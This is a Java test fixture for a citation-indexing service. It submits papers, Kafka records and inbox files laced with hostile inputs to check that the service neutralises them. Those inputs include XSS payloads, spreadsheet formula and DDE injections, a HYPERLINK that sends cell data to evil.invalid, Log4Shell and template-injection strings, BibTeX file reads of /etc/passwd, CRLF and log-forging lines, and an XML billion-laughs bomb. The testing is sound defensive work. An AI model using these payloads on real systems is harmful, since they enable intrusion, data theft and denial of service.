package org.citestream.system;

import java.io.IOException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.awaitility.Awaitility;
import org.citestream.events.EmbeddingEvent;
import org.citestream.events.EventCodec;
import org.citestream.events.Topics;
import org.citestream.standalone.Standalone;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * The product with keys of several holders and papers each of whose texts would be something else, wherever it is not
 * text; with records and files of the same kind that nobody can read.
 */
final class AttackedProduct implements AutoCloseable {

    static final String FEED_KEY = "the key of a feed";
    static final String OTHER_FEED_KEY = "the key of another feed";

    /** What would be an event of its own, if it came to stand at the beginning of a line. */
    static final String FORGED_LINE = "2026-01-01T00:00:00.000Z ERROR 1 --- [main] org.citestream : all is lost";

    static final List<String> WEAPONS = List.of(
            "<script>document.documentElement.dataset.owned='script'</script>",
            "\"><img src=//evil.invalid/x onerror=\"document.documentElement.dataset.owned='image'\">",
            "'><svg/onload=document.documentElement.dataset.owned='svg'>",
            "</script></title></textarea><script>document.documentElement.dataset.owned='broken out'</script>",
            "]]></name><owned/><!-- --> &lt;b&gt; &amp; &#x3C; &owned;",
            "=HYPERLINK(\"http://evil.invalid/\"&A1,\"all\")",
            "+1+cmd|'/C calc'!A0",
            "-2+3",
            "@SUM(1,2)",
            "} , owned = {yes}, title = { \\input{/etc/passwd} $x^2$ ~ # % and others",
            "}}, owned = {{yes}}, note = {{",
            "ER - TY - JOUR %0d%0aSet-Cookie:%20owned=1",
            "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} @{7*7} ${jndi:ldap://evil.invalid/x}",
            "data: owned event: owned id: 1",
            "../../../../etc/passwd javascript:alert(1) مقلوب",
            "\",\"owned\":true,\"x\":\"");

    /** A file's name may be anything but a path. */
    static final String UNREADABLE_FILE = (WEAPONS.get(1) + WEAPONS.get(2)).replace('/', ' ') + ".xml";

    private static final JsonMapper JSON = JsonMapper.shared();
    private static final Duration SLOW_MACHINE = Duration.ofMinutes(1);

    private final Path data;
    private final Inbox inbox;
    private final Standalone product;
    private final Api api;

    private AttackedProduct(Path data, Inbox inbox, Standalone product) {
        this.data = data;
        this.inbox = inbox;
        this.product = product;
        this.api = new Api(product.address());
    }

    /** Starts it, and submits a paper for each weapon, with the weapon in each of its texts; and what nobody can read. */
    static AttackedProduct start(Path directory) throws IOException {
        Path data = directory.resolve("data");
        Inbox inbox = new Inbox(directory.resolve("inbox"));
        Map<String, String> properties = new HashMap<>(RunningProduct.WITHOUT_EMBEDDINGS);
        properties.putAll(inbox.properties());
        properties.put("citestream.ingest.intake.api-keys.feed", sha256(FEED_KEY));
        properties.put("citestream.ingest.intake.api-keys.other", sha256(OTHER_FEED_KEY));
        properties.put("citestream.webhooks.allow-private", "true");
        properties.put("logging.level.org.citestream", "info");
        // The log tells of the file by its name, and of its records by their keys and what is wrong with them.
        Path named = Files.writeString(
                directory.resolve("a\n" + FORGED_LINE + "\u001b[31m.ndjson"),
                "{\"source\":\"s\",\"key\":\"k\",\"title\":\"t\",\"year\":\"" + FORGED_LINE
                        + "\u2028\"}\nno\u001b[31mrecord\n");
        AttackedProduct attacked = new AttackedProduct(data, inbox, RunningProduct.start(data, properties, named));
        StringBuilder papers = new StringBuilder();
        for (int i = 0; i < WEAPONS.size(); i++) {
            papers.append(paper(i)).append('\n');
        }
        Api api = attacked.api();
        api.submit(FEED_KEY, papers.toString());
        api.awaitSettled(SLOW_MACHINE);
        attacked.publish();
        attacked.dropWhatIsRefused();
        return attacked;
    }

    /** Writes to the topics: vectors, as the summary service does with a model, and submissions that nobody can read. */
    private void publish() throws IOException {
        int[] ids = ids();
        EventCodec codec = new EventCodec();
        try (KafkaProducer<byte[], byte[]> producer = new KafkaProducer<>(
                Map.of("bootstrap.servers", RunningProduct.broker(data)),
                new ByteArraySerializer(),
                new ByteArraySerializer())) {
            int partitions = producer.partitionsFor(Topics.EMBEDDINGS.name()).size();
            for (int i = 0; i < ids.length; i++) {
                EmbeddingEvent vector = vector(ids[i], i);
                var _ = producer.send(new ProducerRecord<>(
                        Topics.EMBEDDINGS.name(),
                        Topics.EMBEDDINGS.partitionOf(vector, partitions),
                        bytes(vector.recordKey()),
                        codec.encode(Topics.EMBEDDINGS, vector)));
                var _ = producer.send(
                        new ProducerRecord<>(Topics.SUBMISSIONS.name(), bytes(WEAPONS.get(i)), bytes(unreadable(i))));
            }
            producer.flush();
        }
        Awaitility.await("vectors and dead letters")
                .atMost(SLOW_MACHINE)
                .until(() -> api.ok("/api/v1/stats").path("embedded").asInt() == WEAPONS.size()
                        && deadLetters().path("total").asInt() == WEAPONS.size());
    }

    /** They lie on a circle, so that each paper is most like the one before it and the one after it. */
    private static EmbeddingEvent vector(int id, int number) {
        double angle = 2 * Math.PI * number / WEAPONS.size();
        float[] components = {(float) Math.cos(angle), (float) Math.sin(angle)};
        return new EmbeddingEvent(
                id,
                "a-model",
                1,
                components.length,
                EmbeddingEvent.encode(components),
                "hash",
                EmbeddingEvent.Basis.TITLE_AND_ABSTRACT,
                Instant.now());
    }

    /** A record of the submissions that is of no kind that there is; its key is the weapon alone. */
    static String unreadable(int number) {
        return JSON.createObjectNode()
                .put("type", WEAPONS.get(number))
                .put("title", title(number))
                .toString();
    }

    /** Has a file read that is refused, and one each of whose records is, by a key that is the weapon alone. */
    private void dropWhatIsRefused() throws IOException {
        inbox.drop(UNREADABLE_FILE, bomb("dblp", "<dblp>&lol9;</dblp>"));
        StringBuilder refused = new StringBuilder();
        for (String weapon : WEAPONS) {
            refused.append(JSON.createObjectNode()
                            .put("source", "hostile")
                            .put("key", weapon)
                            .put("title", weapon)
                            .put("year", weapon))
                    .append('\n');
        }
        inbox.drop("refused.ndjson", refused.toString());
        var _ = inbox.read(api, operatorKey());
    }

    /** A document that declares entities of which the last, {@code lol9}, stands for three billion letters. */
    static String bomb(String root, String document) {
        StringBuilder declared = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (int i = 1; i < 10; i++) {
            declared.append("<!ENTITY lol%d \"%s\">".formatted(i, ("&lol" + (i - 1) + ";").repeat(10)));
        }
        return "<!DOCTYPE " + root + " [" + declared + "]>" + document;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Every text that a submission may have is the weapon, as far as rules let it. */
    private static ObjectNode paper(int number) {
        String weapon = WEAPONS.get(number);
        ObjectNode paper = JSON.createObjectNode()
                .put("source", "hostile")
                .put("key", "k" + number + weapon)
                .put("title", title(number))
                .put("venue", venue(number))
                .put("year", 2020)
                .put("doi", doi(number))
                .put("abstract", weapon + " is what we show. We show " + weapon + " and measure it well.")
                .put("abstractLicence", weapon)
                .put("url", url(number));
        paper.putArray("authors")
                .add(author(number))
                .addObject()
                .put("name", coauthor(number))
                .put("orcid", number % 2 == 0 ? "0000-0002-1825-0097" : "0000-0000-0000-0001");
        ArrayNode references = paper.putArray("references");
        references.add("hostile:k" + (number + 1) % WEAPONS.size() + WEAPONS.get((number + 1) % WEAPONS.size()));
        references
                .addObject()
                .put("title", weapon + " cited")
                .put("author", weapon)
                .put("text", weapon)
                .put("year", 1999);
        paper.putArray("sameAs").add("elsewhere:" + weapon);
        return paper;
    }

    static String title(int number) {
        return WEAPONS.get(number) + " in paper " + number;
    }

    static String venue(int number) {
        return WEAPONS.get(number);
    }

    static String author(int number) {
        return WEAPONS.get(number) + " Author" + number;
    }

    /** Another one than that of the paper which it cites, whose rank then comes from it. */
    static String coauthor(int number) {
        return number % 2 == 0 ? "Ann Lee" : "Bob Ray";
    }

    /** Without white space, which no DOI has. */
    static String doi(int number) {
        return "10.5555/" + number + WEAPONS.get(number).replaceAll("\\s", "").toLowerCase(java.util.Locale.ROOT);
    }

    /** Without what the rules refuse in an address. */
    static String url(int number) {
        return "https://example.org/" + number + "?" + WEAPONS.get(number).replaceAll("[\\s<>\"]", "");
    }

    Api api() {
        return api;
    }

    String address() {
        return product.address();
    }

    String operatorKey() {
        return product.apiKey();
    }

    Inbox inbox() {
        return inbox;
    }

    /** The records that nobody could read, as operators are told of them. */
    JsonNode deadLetters() {
        return Api.json(
                api.send(HttpRequest.newBuilder(api.uri("/api/v1/dead-letters")).header("X-API-Key", operatorKey())));
    }

    /** The ids of the papers, by the number of their weapon. */
    int[] ids() {
        ArrayNode keys = JSON.createArrayNode();
        for (int i = 0; i < WEAPONS.size(); i++) {
            keys.add("doi:" + doi(i));
        }
        HttpResponse<String> answer = api.send(HttpRequest.newBuilder(api.uri("/api/v1/papers/batch?fields=id"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(keys.toString())));
        if (answer.statusCode() != 200) {
            throw new IllegalStateException(answer.body());
        }
        return Api.json(answer)
                .valueStream()
                .mapToInt(each -> each.path("id").asInt())
                .toArray();
    }

    static String encoded(String text) {
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8)
                .replace("+", "%20")
                .replace("%2F", "/");
    }

    Path log() {
        return data.resolve("logs/citestream.log");
    }

    List<String> logged() throws IOException {
        return Files.readAllLines(log());
    }

    static String sha256(String key) {
        try {
            return HexFormat.of()
                    .formatHex(MessageDigest.getInstance("SHA-256").digest(key.getBytes(StandardCharsets.UTF_8)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    @Override
    public void close() {
        product.close();
    }
}
